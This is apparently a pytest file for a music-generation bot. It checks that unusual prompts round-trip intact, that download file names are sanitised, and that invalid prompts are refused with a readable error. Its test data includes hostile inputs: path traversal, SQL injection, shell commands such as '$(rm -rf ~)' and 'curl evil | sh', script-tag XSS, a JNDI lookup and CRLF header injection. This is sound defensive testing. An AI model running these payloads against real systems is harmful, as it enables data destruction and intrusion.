"""What people (and worse) type as a prompt: taken and shown as it is, or refused with reason."""

from __future__ import annotations

import re
import unicodedata

import pytest

from bot.ask import Ask
from bot.errors import Refusal
from bot.grammar import parse_ask
from bot.names import file_stem
from generation.errors import BadRequestError
from tests.bot.conftest import HOME, Kit, a_clip, person
from tests.bot.web.site import Site

TAKEN = {
    "one character": "x",
    "75 words": " ".join(["beat"] * 75),
    "76 words": " ".join(["beat"] * 76),
    "75 characters": "x" * 75,
    "76 characters": "x" * 76,
    "the most there may be": "x" * 500,
    "emoji": "\U0001f941 drums \U0001f468\u200d\U0001f3a4 on fire \U0001f525",
    "right-to-left marks": "jazz \u202egnik\u202c and \u200fpiano",
    "Arabic and Hebrew": "موسيقى هادئة עם פסנתר",
    "zero-width joins": "lo\u200d-\u200cfi\u200b beat\ufeff",
    "combining marks": "z" + "\u0301" * 60,
    "bidi isolates": "\u2066techno\u2069",
    "mentions": "@everyone @here <@123> <@&5> <#7> beat",
    "markdown": "**bold** _it_ ~~no~~ ||spoiler|| `code` ```block``` > quote # head [a](b)",
    "path separators": "../../etc/passwd \\..\\windows /dev/null C:\\con",
    "SQL": "'; DROP TABLE jobs; -- \" OR 1=1",
    "shell": "$(rm -rf ~) `reboot` && curl evil | sh; echo ${HOME} > x",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "format strings": "%s %n {0} {__class__} ${jndi:ldap://x}",
    "control characters": "jazz\x00\x07\x1b[31m\x7f\x85 beat",
    "new lines": "jazz\r\nSet-Cookie: a=b\r\n\r\nbeat",
    "a lone surrogate's replacement": "jazz \ufffd",
    "a reserved file name": "CON",
    "only dots": "...",
    "only dashes": "- -- ---",
}
REFUSED = {
    "nothing": "",
    "only space": " \t\n\u00a0\u2003",
    "501 characters": "x" * 501,
    "10,000 characters": "x" * 10_000,
    "10,000 emoji": "\U0001f941" * 10_000,
}


@pytest.mark.parametrize("name", TAKEN)
async def test_an_odd_prompt_is_kept_as_it_is(kit: Kit, name: str) -> None:
    """From the ledger's point of view text is text: in, on disk, and out again."""
    prompt = TAKEN[name]
    view = await kit.studio.submit(person(prompt[:40], community=prompt[:40]), Ask(prompt), HOME)
    assert view.job.request.prompt == prompt
    job = await kit.ledger.claim("worker", 60)
    assert job is not None
    assert job.request.prompt == prompt
    await kit.ledger.record_rendered(job, [a_clip()])
    [delivery] = await kit.ledger.deliveries.due("local")
    assert delivery.job.request.prompt == prompt
    assert [view.job.id for view in await kit.studio.recent("local", prompt[:40])] == [job.id]


@pytest.mark.parametrize("name", TAKEN)
async def test_an_odd_prompt_comes_back_from_the_api_as_json_and_names_a_plain_file(
    site: Site, name: str
) -> None:
    prompt = TAKEN[name]
    async with site.http.post("/api/riffs", json={"prompt": prompt}) as response:
        riff = await response.json()
        assert response.status == 202, riff
        assert response.content_type == "application/json"
    assert riff["prompt"] == prompt.strip()
    job = await site.kit.ledger.claim("worker", 60)
    assert job is not None
    (site.clips / "ab").mkdir(parents=True)
    (site.clips / "ab" / "x.mp3").write_bytes(b"sound")
    await site.kit.ledger.record_rendered(job, [a_clip()])
    async with site.http.get(f"/clips/{job.id}.mp3?download=1") as response:
        assert response.status == 200
        disposition = response.headers["Content-Disposition"]
        assert "Set-Cookie" not in response.headers
        assert response.content_disposition is not None
        shown = response.content_disposition.filename
    assert all(character.isprintable() for character in disposition)
    assert shown is not None
    assert_plain(shown.removesuffix(".mp3"))


@pytest.mark.parametrize("name", REFUSED)
async def test_what_cannot_be_a_prompt_is_refused_with_a_sentence(site: Site, name: str) -> None:
    prompt = REFUSED[name]
    with pytest.raises(BadRequestError, match=r"Tell me|characters") as refusal:
        await site.kit.studio.submit(person("ann"), Ask(prompt), HOME)
    assert_sentence(str(refusal.value))
    with pytest.raises(Refusal, match=r"Tell me|characters") as said:
        parse_ask(prompt)
    assert_sentence(str(said.value))
    async with site.http.post("/api/riffs", json={"prompt": prompt}) as response:
        answer = await response.json()
        assert response.status in (400, 413)
    assert_sentence(answer["error"])
    assert await site.kit.studio.recent("local", "chat") == []


@pytest.mark.parametrize("name", [*TAKEN, *REFUSED])
def test_no_prompt_names_a_path(name: str) -> None:
    assert_plain(file_stem({**TAKEN, **REFUSED}[name], 7))


async def test_a_prompt_that_is_no_unicode_is_refused(site: Site) -> None:
    """A lone surrogate can be written in JSON, but not in UTF-8."""
    async with site.http.post(
        "/api/riffs",
        data=b'{"prompt": "jazz \\ud800"}',
        headers={"Content-Type": "application/json"},
    ) as response:
        answer = await response.json()
    assert response.status == 400
    assert_sentence(answer["error"])


def assert_plain(stem: str) -> None:
    """A name that is one file, in the folder where it is put, on every system."""
    assert 0 < len(stem.encode()) <= 120
    assert not re.search(r"[\x00-\x1f\x7f/\\:*?\"<>|%$`';&(){}\[\]@#~!^=+, ]", stem)
    assert not stem.startswith((".", "-"))
    assert stem.upper() not in {"CON", "PRN", "AUX", "NUL"}
    assert not any(unicodedata.category(character).startswith("C") for character in stem)


def assert_sentence(text: str) -> None:
    assert text[0].isupper()
    assert text[-1] in ".!?"
    assert len(text) < 300
    assert text.isprintable()
